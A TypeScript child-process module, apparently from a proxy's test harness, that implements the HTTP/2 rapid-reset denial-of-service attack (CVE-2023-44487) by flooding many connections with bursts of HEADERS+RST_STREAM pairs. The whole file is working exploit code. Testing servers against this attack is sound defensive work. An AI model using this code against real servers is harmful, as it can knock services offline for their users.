// Child process: the HTTP/2 rapid-reset attacker (CVE-2023-44487) in its own process, so its CPU
// is not the proxy's and its event loop does not slow the proxy's clients.
//   rapid-reset.ts --url https://… --ca <pem file> --path /clusters/… --token t
//     [--connections 46] [--pairs 2000] [--seconds 3]
// Command `attack` → { sent, seconds }: every connection sends `pairs` HEADERS+RST_STREAM pairs,
// spread evenly over `seconds`, in bursts of 50 written together (one packet where they fit).
import { readFileSync } from 'node:fs'
import { connect, constants, type ClientHttp2Session } from 'node:http2'
import { serveChild, childArg } from '../child-side.js'

const BURST = 50

serveChild<Record<string, never>>(async () => {
  const url = childArg('url')
  const ca = readFileSync(childArg('ca'), 'utf8')
  const path = childArg('path')
  const token = childArg('token')
  const connections = Number(childArg('connections', '46'))
  const pairs = Number(childArg('pairs', '2000'))
  const seconds = Number(childArg('seconds', '3'))

  async function attackOne(): Promise<number> {
    const s: ClientHttp2Session = connect(url, { ca })
    s.on('error', () => undefined)
    await new Promise<void>((resolve, reject) => {
      s.once('connect', () => resolve())
      s.once('error', reject)
    })
    const bursts = Math.ceil(pairs / BURST)
    const gapMs = (seconds * 1000) / bursts
    const start = Date.now()
    let sent = 0
    for (let b = 0; b < bursts && !s.destroyed; b++) {
      for (let i = 0; i < BURST && sent < pairs; i++, sent++) {
        const r = s.request({ ':method': 'GET', ':path': path, authorization: `Bearer ${token}` })
        r.on('error', () => undefined)
        r.close(constants.NGHTTP2_CANCEL)
      }
      const next = start + (b + 1) * gapMs
      await new Promise((resolve) => setTimeout(resolve, Math.max(0, next - Date.now())))
    }
    s.destroy()
    return sent
  }

  return {
    info: {},
    handlers: {
      attack: async () => {
        const t0 = process.hrtime.bigint()
        const sent = (await Promise.all(Array.from({ length: connections }, attackOne))).reduce((a, b) => a + b, 0)
        return { sent, seconds: Number(process.hrtime.bigint() - t0) / 1e9 }
      },
    },
    close: async () => undefined,
  }
})
